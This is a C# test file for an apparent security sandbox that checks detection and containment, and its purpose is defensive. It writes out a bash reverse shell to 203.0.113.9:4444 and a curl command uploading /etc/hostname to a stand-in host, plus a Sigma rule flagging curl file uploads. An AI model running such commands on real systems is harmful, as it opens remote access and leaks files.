using Aurelian.Episodes;
using Aurelian.Events;
using Aurelian.Response;

namespace Aurelian.LinuxTests.Runs;

/// <summary>
/// Sigma rules in a real sandbox: ours contain, the user's make suspect and contain where he says so.
/// </summary>
public sealed class RuleRunTests : IDisposable
{
    private const string Rule = """
        title: A File Sent By curl
        logsource: {category: process_creation, product: linux}
        detection:
            selection: {Image|endswith: /curl, 'CommandLine|contains': ' -T '}
            condition: selection
        level: high
        tags: [attack.exfiltration]
        """;

    private readonly string _folder = Directory.CreateTempSubdirectory("aurelian-rules-").FullName;

    public RuleRunTests() => File.WriteAllText(Path.Combine(_folder, "sent_by_curl.yml"), Rule);

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public async Task A_shell_on_a_socket_is_stopped_and_named()
    {
        RunSummary summary = await Run.CommandAsync(
            "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'; sleep 20");

        Incident shell = summary.Incident(Category.Tunnel);
        Assert.Equal("reverse-shell-connected", shell.Rule);
        Assert.Equal(("203.0.113.9", 4444, 0L),
            (shell.Flow!.Destination, shell.Flow.Port, shell.Flow.BytesUpstream));
        Assert.NotNull(shell.ContainedAfterMs);
        Assert.Equal(VerdictState.Violating, summary.Verdict());
    }

    [Theory]
    [InlineData(false, Severity.Medium, VerdictState.Suspect)]
    [InlineData(true, Severity.High, VerdictState.Violating)]
    public async Task A_rule_of_the_user_s_contains_where_he_says_so(
        bool contain, Severity severity, VerdictState verdict)
    {
        RunSummary summary = await Run.ExecuteAsync(Run.Config() with
        {
            RuleFolders = [_folder],
            RulesContain = contain,
            Episodes =
            [
                new EpisodeConfig { Command = ["bash", "-c", "curl -m 2 -T /etc/hostname http://a.example/; true"] },
            ],
        });

        Incident incident = summary.Incident(Category.Exfiltration);
        Assert.Equal(("sent_by_curl", severity), (incident.Rule, incident.Severity));
        Assert.Equal(verdict, summary.Verdict());
    }
}
